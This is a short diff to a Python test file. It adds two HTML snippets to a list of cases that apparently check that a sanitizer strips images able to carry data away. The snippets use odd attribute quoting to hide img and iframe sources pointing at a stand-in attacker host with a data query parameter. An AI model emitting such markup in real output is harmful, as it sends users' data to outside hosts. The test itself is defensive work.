@@ -282,6 +282,8 @@ EVIL = "https://collect.evil-example.net"
         f'<img srcset="{EVIL}/a,b?d=1 2x">',
         f'<img src="{EVIL}/p?d=1"',
         f"<b style='background:url({EVIL}/p?d=1)",
+        f'<img "= ">" src="{EVIL}/p?d=1">',
+        f"<iframe '= '>' src={EVIL}/p?d=1>",
     ],
 )
 def test_an_image_that_may_carry_something_away_is_taken_out(text: str) -> None:
